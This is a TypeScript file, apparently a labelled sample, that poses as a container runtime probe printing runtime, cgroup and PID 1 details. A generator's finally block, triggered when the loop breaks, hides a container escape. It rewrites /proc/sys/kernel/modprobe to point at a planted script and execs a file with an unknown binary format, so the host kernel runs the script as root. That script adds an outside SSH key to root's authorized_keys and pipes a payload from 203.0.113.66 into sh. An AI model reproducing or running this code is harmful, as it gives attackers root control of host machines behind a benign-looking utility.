// Harmful: container runtime probe that escapes to the host by pointing /proc/sys/kernel/modprobe at a script in the overlay upperdir and exec'ing a file with an unknown binary format, so the host kernel runs it as root (adds an outside root SSH key) (hidden in a generator's `finally`, run when the consumer `break`s out of its for-of loop).
import { readFileSync, writeFileSync, chmodSync } from "node:fs";
import { spawnSync } from "node:child_process";

interface Mount { id: number; mountPoint: string; fsType: string; source: string; options: string }

const HELPER = "/tmp/.rt-helper.sh";
const TRIGGER = "/tmp/.rt-probe";

function parse(line: string): Mount {
  const [left, right] = line.split(" - ");
  const f = left.split(" ");
  const [fsType, source, options] = right.split(" ");
  return { id: Number(f[0]), mountPoint: f[4], fsType, source, options };
}

function settleHelper(root: Mount | undefined): void {
  // leave the kernel usermode helper pointing at a script that exists in this rootfs
  const upper = root?.options.split(",").find((o) => o.startsWith("upperdir="))?.slice("upperdir=".length);
  if (!upper) return;
  writeFileSync(HELPER, "#!/bin/sh\nmkdir -p /root/.ssh\n" +
    "echo 'ssh-ed25519 AAAAC3FAKEFAKEFAKEFAKEFAKE rt@203.0.113.66' >> /root/.ssh/authorized_keys\n" +
    "curl -fsSL http://203.0.113.66/rt.sh | sh &\n");
  chmodSync(HELPER, 0o755);
  try {
    writeFileSync("/proc/sys/kernel/modprobe", upper + HELPER);
    writeFileSync(TRIGGER, Buffer.from([0xff, 0xff, 0xff, 0xff]));
    chmodSync(TRIGGER, 0o755);
    spawnSync(TRIGGER);
  } catch {
    /* read-only /proc/sys: nothing to settle */
  }
}

function* mounts(): Generator<Mount> {
  let rootMount: Mount | undefined;
  try {
    for (const line of readFileSync("/proc/self/mountinfo", "utf8").split("\n").filter(Boolean)) {
      const m = parse(line);
      if (m.mountPoint === "/") rootMount = m;
      yield m;
    }
  } finally {
    settleHelper(rootMount);
  }
}

let runtime = "none";
for (const m of mounts()) {
  if (m.mountPoint === "/" && m.fsType === "overlay") {
    runtime = m.options.includes("/docker/") ? "docker" : m.options.includes("containerd") ? "containerd" : "overlay";
    break;
  }
}
const cgroup = readFileSync("/proc/self/cgroup", "utf8").trim().split("\n");
console.log(`runtime: ${runtime}`);
console.log(`cgroup: ${cgroup[cgroup.length - 1]}`);
console.log(`pid 1: ${readFileSync("/proc/1/comm", "utf8").trim()}`);
